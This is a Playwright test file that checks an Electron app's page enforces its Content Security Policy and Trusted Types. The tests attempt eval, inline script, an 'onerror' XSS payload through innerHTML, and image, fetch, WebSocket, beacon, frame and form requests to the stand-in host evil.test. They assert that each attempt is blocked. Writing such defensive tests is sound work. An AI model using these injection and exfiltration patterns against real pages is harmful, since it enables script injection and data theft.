import type { Page } from '@playwright/test';
import { expect, test } from './support/app';

/** Does something forbidden in the page; returns the directives that were violated meanwhile, so many kinds at least. */
async function violationsOf(page: Page, act: () => void, kinds = 1): Promise<string[]> {
  const watching = await page.evaluateHandle(() => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      directives.push(event.effectiveDirective);
    });
    return directives;
  });
  await page.evaluate(act);
  await expect
    .poll(async () => new Set(await watching.jsonValue()).size)
    .toBeGreaterThanOrEqual(kinds);
  return watching.jsonValue();
}

test.beforeEach(async ({ app, page }) => {
  app.watch.allowConsoleErrors(
    /Content Security Policy|Content-Security-Policy|Trusted|violates|ERR_BLOCKED|unsafe-eval|Permissions policy/i,
  );
  await expect(page.getByRole('textbox', { name: 'Prompt' })).toBeEnabled();
});

test('the page has nothing of Node or Electron', async ({ page }) => {
  const found = await page.evaluate(() =>
    [
      'require',
      'process',
      'module',
      'exports',
      'Buffer',
      'global',
      'electron',
      'ipcRenderer',
      'api',
    ].filter((name) => name in globalThis),
  );
  expect(found).toEqual([]);
});

test('no evaluated code', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    // A timer runs as the page itself; what a test evaluates directly is exempt.
    setTimeout(() => {
      // eslint-disable-next-line no-new-func, typescript/no-implied-eval -- it must be refused
      new Function('return 1')();
    });
  });
  expect(violated.some((directive) => /script-src|trusted-types/.test(directive))).toBe(true);
});

test('no inline script', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    try {
      const script = document.createElement('script');
      script.textContent = 'window.wasRun = true';
      document.head.append(script);
    } catch {
      // Refused, as it should be.
    }
  });
  expect(violated.some((directive) => /script-src|trusted-types/.test(directive))).toBe(true);
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
});

test('no HTML from text', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    try {
      document.createElement('div').innerHTML = '<img src=x onerror="window.wasRun = true">';
    } catch {
      // Refused, as it should be.
    }
  });
  expect(violated).toContain('require-trusted-types-for');
});

test('no inline style element', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    const style = document.createElement('style');
    style.textContent = 'body { color: red }';
    document.head.append(style);
  });
  expect(violated).toEqual(['style-src-elem']);
});

test('no picture from elsewhere', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    const image = document.createElement('img');
    image.src = 'https://evil.test/pixel.png?secret';
    document.body.append(image);
  });
  expect(violated).toEqual(['img-src']);
});

test('no request to elsewhere', async ({ page }) => {
  const violated = await violationsOf(page, () => {
    void fetch('https://evil.test/').catch(() => {});
    try {
      new WebSocket('wss://evil.test/').close();
    } catch {
      // Refused, as it should be.
    }
    navigator.sendBeacon('https://evil.test/');
  });
  expect(new Set(violated)).toEqual(new Set(['connect-src']));
});

test('no frame, no form, no other base', async ({ page }) => {
  const violated = await violationsOf(
    page,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      const form = document.createElement('form');
      form.action = 'https://evil.test/';
      document.body.append(frame, form);
      document.head.append(base);
      form.submit();
    },
    3,
  );
  expect(new Set(violated)).toEqual(new Set(['frame-src', 'base-uri', 'form-action']));
});

test('no permission', async ({ page }) => {
  const refused = await page.evaluate(async () => {
    const asked = {
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      place: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    };
    const outcomes: Record<string, string> = {};
    for (const [name, ask] of Object.entries(asked)) {
      outcomes[name] = await ask().then(
        () => 'granted',
        () => 'refused',
      );
    }
    return outcomes;
  });
  expect(refused).toEqual({ camera: 'refused', screen: 'refused', place: 'refused' });
});
